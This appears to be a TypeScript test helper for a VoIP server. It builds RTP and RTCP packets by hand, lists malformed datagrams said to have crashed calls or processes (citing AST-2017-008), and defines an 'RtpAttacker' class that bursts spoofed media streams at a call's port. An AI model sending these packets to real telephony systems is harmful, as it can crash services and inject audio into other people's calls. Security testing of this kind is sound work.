/** RTP and RTCP by hand. */
import { UdpAttacker } from './attack-sip.ts';

export interface RtpOptions {
  readonly type?: number;
  readonly sequence?: number;
  readonly timestamp?: number;
  readonly ssrc?: number;
  readonly payload?: Uint8Array;
}

export function rtp(o: RtpOptions = {}): Buffer {
  const payload = o.payload ?? new Uint8Array(160).fill(0x55);
  const packet = Buffer.alloc(12 + payload.length);
  packet[0] = 0x80;
  packet[1] = o.type ?? 0;
  packet.writeUInt16BE((o.sequence ?? 0) & 0xffff, 2);
  packet.writeUInt32BE((o.timestamp ?? 0) >>> 0, 4);
  packet.writeUInt32BE((o.ssrc ?? 0xbadbad) >>> 0, 8);
  packet.set(payload, 12);
  return packet;
}

/** BYE of an SSRC behind an empty receiver report. */
export function rtcpBye(ssrc: number): Buffer {
  const bytes = Buffer.alloc(16);
  bytes.set([0x80, 201, 0, 1], 0);
  bytes.writeUInt32BE(ssrc, 4);
  bytes.set([0x81, 203, 0, 1], 8);
  bytes.writeUInt32BE(ssrc, 12);
  return bytes;
}

/** Datagrams that have ended calls or processes elsewhere (AST-2017-008 and its kind). */
export const MALFORMED: readonly Uint8Array[] = [
  Buffer.alloc(0),
  ...[1, 2, 4, 8, 11, 12].map((n) => Buffer.alloc(n, 0x80)),
  rtp({ payload: new Uint8Array(0) }),
  rtp({ payload: new Uint8Array(1460) }),
  rtp({ payload: new Uint8Array(60_000) }),
  rtp({ type: 77 }),
  rtp({ type: 127 }),
  edited(rtp(), 0, 0x8f), // 15 contributing sources
  edited(rtp({ payload: new Uint8Array(4) }), 0, 0x8f),
  edited(rtp(), 0, 0xa0), // padding of 0x55
  edited(edited(rtp(), 0, 0xa0), 171, 255),
  edited(edited(rtp(), 0, 0xa0), 171, 0),
  edited(rtp({ payload: Uint8Array.of(0xbe, 0xde, 0xff, 0xff) }), 0, 0x90), // header extension without end
  edited(rtp(), 0, 0x00),
  edited(rtp(), 0, 0xc0),
  Buffer.from([0x80, 200, 0xff, 0xff]),
  Buffer.from([0x80, 200, 0, 0]),
  Buffer.from([0x9f, 202, 0, 1, 0, 0, 0, 1]),
  Buffer.from([0x81, 202, 0, 2, 0, 0, 0, 1, 1, 255, 65, 65]),
  Buffer.from([0x9f, 201, 0, 7, ...new Array(28).fill(255)]),
  Buffer.from([0x81, 205, 0, 2, 1, 2, 3, 4, 5, 6, 7, 8]),
  Buffer.from('\u0000\u0001\u0000\u0000!\u0012\u00a4B123456789012', 'latin1'), // STUN binding request
  Buffer.from('\u0001\u0001\u0000\b!\u0012\u00a4B1234567890120000000', 'latin1'), // and a success nobody asked for
  Buffer.from('\u0000\u0001\u00ff\u00fc!\u0012\u00a4B123456789012\u0080\u0022\u00ff\u00ff', 'latin1'),
  Buffer.from([0x16, 0xfe, 0xff, 0, 0, 0, 0, 0, 0, 0, 0, 0, 4, 1, 0, 0, 0]), // DTLS ClientHello
  Buffer.from('OPTIONS sip:x SIP/2.0\r\n\r\n'),
];

function edited(packet: Buffer, at: number, octet: number): Buffer {
  const copy = Buffer.from(packet);
  copy[at] = octet;
  return copy;
}

/** An attacker's RTP socket that sends a plausible stream. */
export class RtpAttacker {
  readonly socket: UdpAttacker;
  #sequence = 1000;
  readonly #ssrc: number;

  private constructor(socket: UdpAttacker, ssrc: number) {
    this.socket = socket;
    this.#ssrc = ssrc;
  }

  static async bind(ip: string, ssrc = 0xbadbad): Promise<RtpAttacker> {
    return new RtpAttacker(await UdpAttacker.bind(ip), ssrc);
  }

  /** `count` packets of each law, 20 ms of sound each, all at once. */
  burst(to: { readonly ip: string; readonly port: number }, count: number): void {
    for (let i = 0; i < count; i++) {
      this.#sequence++;
      const series = { sequence: this.#sequence, timestamp: this.#sequence * 160 };
      // Two streams, of PCMU and of PCMA: one is what the call has agreed on.
      this.socket.send(rtp({ ...series, ssrc: this.#ssrc }), to);
      this.socket.send(rtp({ ...series, ssrc: this.#ssrc + 1, type: 8 }), to);
    }
  }

  /** RTP and RTCP that came to it. */
  get received(): number {
    return this.socket.received.length;
  }

  close(): void {
    this.socket.close();
  }
}
